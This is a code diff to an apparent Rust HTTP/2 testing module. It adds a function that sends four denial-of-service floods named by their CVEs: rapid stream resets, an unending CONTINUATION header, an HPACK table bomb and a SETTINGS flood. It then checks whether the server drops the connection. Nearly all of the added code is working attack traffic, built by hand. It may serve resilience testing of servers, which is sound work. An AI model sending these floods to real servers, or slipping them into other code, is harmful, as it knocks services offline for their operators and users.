@@ -1,6 +1,6 @@
 //! HTTP/2 as bytes: requests that no library would send, and just enough of the answers to tell them apart.
 
-use serde_json::Value as Json;
+use serde_json::{Value as Json, json};
 use tokio::io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt};
 
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
@@ -10,6 +10,7 @@ const HEADERS: u8 = 1;
 const RST_STREAM: u8 = 3;
 const SETTINGS: u8 = 4;
 const GOAWAY: u8 = 7;
+const CONTINUATION: u8 = 9;
 
 const END_STREAM: u8 = 1;
 const END_HEADERS: u8 = 4;
@@ -110,6 +111,86 @@ pub async fn exchange(
         }
     }
     fate
+}
+
+/// What a flood is made of, after the connection has been opened.
+pub enum Flood {
+    /// Requests that are cancelled at once (CVE-2023-44487).
+    Resets,
+    /// A head that never ends (CVE-2024-27316).
+    Continuations,
+    /// A head of a few bytes that stands for many megabytes (CVE-2016-1544).
+    Bomb,
+    /// Settings, each of which wants an answer (CVE-2019-9515).
+    Settings,
+}
+
+/// Sends a flood, at most this many frames. Returns when the other side has closed the connection, or all is sent and
+/// a request behind it answered (`false`).
+pub async fn flood(stream: impl AsyncRead + AsyncWrite + Unpin, flood: Flood, frames: u32) -> bool {
+    let fields = json!([
+        [":method", "GET"],
+        [":scheme", "https"],
+        [":path", "/auth/login"],
+        [":authority", "x"]
+    ]);
+    let head = block(&fields);
+    let mut bytes = [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat();
+    match flood {
+        Flood::Resets => {
+            for stream in (1..).step_by(2).take(frames as usize) {
+                bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &head));
+                bytes.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
+            }
+        }
+        Flood::Continuations => {
+            bytes.extend(frame(HEADERS, END_STREAM, 1, &head));
+            let more = block(&json!([["x", "y".repeat(100)]])).repeat(100);
+            for _ in 0..frames {
+                bytes.extend(frame(CONTINUATION, 0, 1, &more));
+            }
+        }
+        Flood::Bomb => {
+            // One field of 4000 bytes into the table (RFC 7541 §6.2.1, its length in §5.1), and then only its number.
+            let mut bomb = head.clone();
+            bomb.extend([0x40, 1, b'x', 0x7f, 0xa1, 0x1e]);
+            bomb.extend([b'y'; 4000]);
+            bomb.extend([0xbe].repeat(12_000));
+            for stream in (1..).step_by(2).take(frames as usize) {
+                bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &bomb));
+            }
+        }
+        Flood::Settings => bytes.extend(frame(SETTINGS, 0, 0, &[]).repeat(frames as usize)),
+    }
+    let last = 0x7fff_ffff;
+    bytes.extend(frame(HEADERS, END_HEADERS | END_STREAM, last, &head));
+    let (mut reading, mut writing) = tokio::io::split(stream);
+    let sending = async {
+        // An error: it has been closed.
+        let _ = writing.write_all(&bytes).await;
+        let _ = writing.flush().await;
+        std::future::pending::<bool>().await
+    };
+    let hearing = async {
+        loop {
+            let mut head = [0; 9];
+            if reading.read_exact(&mut head).await.is_err() {
+                return true;
+            }
+            let [a, b, c, kind, _, number @ ..] = head;
+            let mut payload = vec![0; u32::from_be_bytes([0, a, b, c]) as usize];
+            if reading.read_exact(&mut payload).await.is_err() {
+                return true;
+            }
+            if (kind, u32::from_be_bytes(number)) == (HEADERS, last) {
+                return false;
+            }
+        }
+    };
+    tokio::select! {
+        closed = hearing => closed,
+        closed = sending => closed,
+    }
 }
 
 /// The status at the beginning of a field block (RFC 7541 appendix A, and B for the digits).
